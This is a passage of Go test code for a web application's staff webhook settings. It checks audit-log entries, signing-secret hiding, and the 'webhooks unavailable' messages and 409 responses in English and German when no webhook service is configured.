			t.Errorf("a signing secret is in the %s", where)
		}
	}
	if audit := admin.get("/staff/audit?action=webhook.", "Accept-Language", "en").html(t).text(); !contains(audit, "Webhook endpoint added") ||
		!contains(audit, "Webhook delivery sent again") {
		t.Errorf("audit page:\n%s", audit)
	}
}

// Without a webhook service the pages say so, and changes are refused.
func TestStaffWebhooksUnavailable(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	srv := h.newServer(h.st, h.keys, false)
	srv.Hooks = nil
	srv.settings.Hooks = nil
	admin := h.staffClient(staff.RoleAdmin, h.a)
	admin.handler = srv.Handler()
	for lang, want := range map[string]string{"en": "Webhooks are not available", "de": "Webhooks sind in dieser Installation nicht verfügbar"} {
		res := admin.get("/staff/settings/webhooks", "Accept-Language", lang)
		if res.StatusCode != http.StatusOK || !contains(res.html(t).testIDText("hooks-unavailable"), want) {
			t.Errorf("%s: %d", lang, res.StatusCode)
		}
		if !contains(admin.get("/staff/settings", "Accept-Language", lang).html(t).testIDText("area-hooks"), want) {
			t.Errorf("%s: the overview does not say webhooks are unavailable", lang)
		}
	}
	if res := admin.post("/staff/settings/webhooks", url.Values{"url": {"https://example.com"}}); res.StatusCode != http.StatusConflict {
		t.Errorf("adding without webhooks = %d", res.StatusCode)
	}
	if res := admin.get("/staff/settings/webhooks/1"); res.StatusCode != http.StatusConflict {
		t.Errorf("an endpoint page without webhooks = %d", res.StatusCode)
	}
}
